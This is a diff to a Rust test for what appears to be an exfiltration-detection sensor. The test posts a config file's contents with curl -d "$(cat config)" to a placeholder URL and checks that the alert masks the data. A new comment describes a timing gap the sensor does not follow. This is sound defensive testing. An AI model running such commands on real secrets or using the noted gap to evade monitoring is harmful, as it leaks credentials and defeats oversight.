@@ -117,7 +117,11 @@ fn after<'a>(args: &'a [Value], flag: &str) -> Option<&'a str> {
 /// Sends `config` (holding `content`) with `curl -d "$(cat config)"` and checks the alert: the
 /// `-d` value is one mask, the other arguments stay.
 fn assert_sent_config_is_masked(lab: &Lab, sensor: &Sensor, config: &Path, content: &str) -> Result<()> {
-    let script = format!("curl -sS -o /dev/null --max-time 10 URL -d \"$(cat {})\"", quoted(config));
+    // The shell waits on the pipe before cat writes: a reader that drains a marked pipe without
+    // waiting, before the page cache backend's channel programs attach, is not followed
+    // (docs/EVASION.md); this test is about what the alert prints, not that window.
+    let script =
+        format!("curl -sS -o /dev/null --max-time 10 URL -d \"$(sleep 0.2; cat {})\"", quoted(config));
     let alert = curl_alert(lab, sensor, &script, &[])?;
 
     assert_eq!(alert::file_path(&alert), config.to_str(), "the homeserver config leaked: {alert:#}");
